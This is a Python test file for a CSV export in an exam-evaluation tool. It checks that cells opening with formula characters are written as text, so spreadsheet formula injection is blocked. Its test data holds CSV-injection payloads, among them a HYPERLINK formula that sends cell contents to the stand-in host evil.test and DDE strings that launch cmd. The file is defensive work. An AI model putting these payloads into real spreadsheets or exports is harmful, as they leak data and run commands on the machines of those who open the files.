"""CSV for spreadsheets: text from exam PDFs and run folders never becomes a formula.

The attack: questions whose stems and options open with `=HYPERLINK(…)`, `@SUM(…)`, `+cmd|…` and a tab,
run through real `eval run`s and `eval key-errors`, whose `key_errors.csv` carries each question's text and
options. Before, the cells were written as they came: a spreadsheet opening the file runs them. Now such a
text cell opens with `'`; numbers (`-0.35`) are written as they are.
"""
from __future__ import annotations

import csv
from dataclasses import replace

from eval.analysis.csvcells import cell
from tests.eval.conftest import SECRET, TOKEN, make_question, run_cli, write_parquet

FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Kliknij")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1"]


def test_cell_writes_formula_openings_as_text_and_numbers_as_they_are():
    assert [cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [cell(v) for v in ("-0.35", "-12", "+3", -0.35, 7, None, "Zadanie 1")] == ["-0.35", "-12", "+3", -0.35, 7, None, "Zadanie 1"]
    assert cell("-2 + 3 = ?") == "'-2 + 3 = ?"


def test_key_errors_csv_of_hostile_questions_holds_no_formula(tmp_path, openai_server, monkeypatch):
    monkeypatch.setenv("STANDIN_KEY", SECRET)
    questions = []
    for i, formula in enumerate(FORMULAS, start=11):
        q = make_question(i, number=str(i - 10))
        questions.append(replace(q, question=formula + " " + q.question, choices=[formula, *q.choices[1:]]))
    for q in questions:
        openai_server.answers[TOKEN.search(q.question).group(1)] = q.answer
    data = write_parquet(tmp_path / "d.parquet", questions)
    for model in ("m1", "m2"):
        openai_server.scripts.clear()
        openai_server.scripts.update({TOKEN.search(q.question).group(1): ["wrong"] for q in questions})
        run_cli("eval", "run", "--data", data, "--model", f"openai:{model}", "--base-url", openai_server.base_url,
                "--api-key-env", "STANDIN_KEY", "--protocol", "mcq", "--out", tmp_path / "runs" / model, "--no-progress")
    out = tmp_path / "keys"
    assert run_cli("eval", "key-errors", tmp_path / "runs", "--out", out) == 0
    with open(out / "key_errors.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + len(FORMULAS)
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and cell(c) != c)]
    questions_column = [row[rows[0].index("question")] for row in rows[1:]]
    assert sorted(q.split(" ", 1)[0] for q in questions_column) == sorted("'" + f.split(" ", 1)[0] for f in FORMULAS)
